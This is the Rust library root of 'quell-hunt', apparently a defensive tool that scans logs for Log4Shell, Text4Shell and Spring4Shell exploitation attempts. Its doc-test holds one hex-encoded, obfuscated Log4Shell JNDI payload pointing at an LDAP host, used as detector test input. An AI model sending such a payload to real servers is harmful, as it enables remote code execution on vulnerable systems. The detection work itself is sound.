//! # quell-hunt — finding Log4Shell, Text4Shell and Spring4Shell exploitation attempts in logs, exactly and fast
//!
//! Brief overview, in data-flow order:
//! - [`LogReader`] — expands paths into [`Source`]s (files, directories recursively, standard
//!   input), opens them (plain, gzip, bzip2, xz, zstd, recognised by magic bytes) and reads them in
//!   large blocks, tracking 1-based line numbers and byte offsets in the decompressed text.
//! - [`Prefilter`] — a SIMD multi-needle search over raw bytes for `${` and its transport-encoded
//!   forms, and for traces of successful lookups. Only lines it flags are examined further.
//! - [`format`](mod@format) — recognises combined/common access logs and JSON lines, splitting a line into
//!   fields (`uri`, `referer`, `user_agent`, JSON keys) with source IP and time.
//! - [`Decoder`] — undoes the transport layer (percent-encoding to any depth, `%uXXXX`, `\uXXXX`,
//!   `\xHH`, octal, HTML references) and records the decode chain.
//! - [`Evaluator`] — an exact port of Log4j 2.14.1's `StrSubstitutor` + `Interpolator` (and the
//!   2.14.1 message-converter rescan) whose `jndi` lookup records every name it is given. Work per
//!   message is bounded by [`EvalLimits`].
//! - [`TextEvaluator`] ([`text4shell`]) — an exact port of Apache Commons Text 1.9's (and
//!   1.10.0's) `StringSubstitutor.createInterpolator()`: what a Text4Shell payload would run,
//!   resolve, fetch or read.
//! - [`spring4shell`] — Spring4Shell parameter bindings, Tomcat valve writes and the requests for
//!   the files they drop (per source: [`SourceState`]).
//! - [`Vulnerability`], [`VulnSet`] ([`vuln`]) — which vulnerabilities a hunt looks for (`--only`).
//! - [`indicators`] — targets (scheme, host, port, path), exploit-kit commands, callback-host
//!   class, and which releases an attempt could work on.
//! - [`Hunter`] — ties these together: from a source to [`quell_model::hunt::HuntRecord`]s
//!   (attempts, traces, errors), on as many threads as there are files to share.
//! - [`IndicatorSummary`] — deduplicated indicators with counts and first/last sightings.
//! - [`SightingCollector`] — the same, by kind and with log times, techniques and days, as
//!   `quell hunt --upload` sends them (the [`quell_model::indicators`] upload).
//!
//! An attempt is anchored on a JNDI name the evaluator actually records (or on the recursion
//! denial of service), on an action the Commons Text evaluator records, or on a class-loader
//! parameter, never on `${` alone: harmless placeholders such as `${FREE_PVS}` or
//! configuration dumps evaluate to nothing and are not reported. Every attempt names its CVE
//! (`vulnerability`).
//!
//! ```
//! use quell_hunt::{HuntConfig, Hunter};
//! use quell_model::hunt::HuntRecord;
//!
//! let hunter = Hunter::new(HuntConfig::new());
//! let mut records: Vec<HuntRecord> = Vec::new();
//! // "${${lower:j}ndi:ldap://198.51.100.7/a}", hex-encoded so that no scanner flags this file.
//! let line = hex("247b247b6c6f7765723a6a7d6e64693a6c6461703a2f2f3139382e35312e3130302e372f617d");
//! hunter.analyze_line("app.log", 1, 0, &line, None, &mut records);
//! let HuntRecord::Attempt(a) = &records[0] else { panic!("an attempt") };
//! assert_eq!(a.jndi, ["ldap://198.51.100.7/a"]);
//! assert_eq!(a.targets[0].port, Some(389));
//! # fn hex(s: &str) -> Vec<u8> {
//! #     (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).expect("hex")).collect()
//! # }
//! ```
//!
//! Invariants: nothing here panics on input data; every bound is a named constant with a
//! documented default that the command line can change; one unreadable file never stops a run.

pub mod decode;
pub mod eval;
pub mod format;
pub mod hunter;
pub mod indicators;
pub mod prefilter;
pub mod reader;
pub mod sightings;
pub mod spring4shell;
pub mod summary;
pub mod text4shell;
pub mod vuln;

pub use decode::{DEFAULT_MAX_DECODE_ROUNDS, Decoder, Variant};
pub use eval::{
    DEFAULT_MAX_BUFFER, DEFAULT_MAX_DEPTH, DEFAULT_MAX_LOOKUPS, DEFAULT_MAX_RESCAN_PASSES, DEFAULT_MAX_STEPS,
    Environment, EvalLimits, Evaluation, Evaluator, MessageEvaluation, Outcome,
};
pub use hunter::{
    DEFAULT_MAX_RAW_CHARS, DEFAULT_MAX_SPANS_PER_FIELD, HuntConfig, Hunter, RECORD_BATCH, Sink, SourceReport,
    SourceState,
};
pub use prefilter::{Hit, HitKind, Prefilter};
pub use reader::{DEFAULT_BLOCK_BYTES, DEFAULT_MAX_DECOMPRESSED_BYTES, LogReader, ReadStats, Source, WalkError};
pub use sightings::SightingCollector;
pub use summary::IndicatorSummary;
pub use text4shell::{TextEvaluation, TextEvaluator, TextEvent, TextOutcome, TextVersion};
pub use vuln::{VulnSet, Vulnerability};

/// Appends `item` unless `list` already holds it: the lists of names, techniques, events and
/// targets keep their first occurrences, in order.
pub(crate) fn push_unique<T: PartialEq>(list: &mut Vec<T>, item: T) {
    if !list.contains(&item) {
        list.push(item);
    }
}
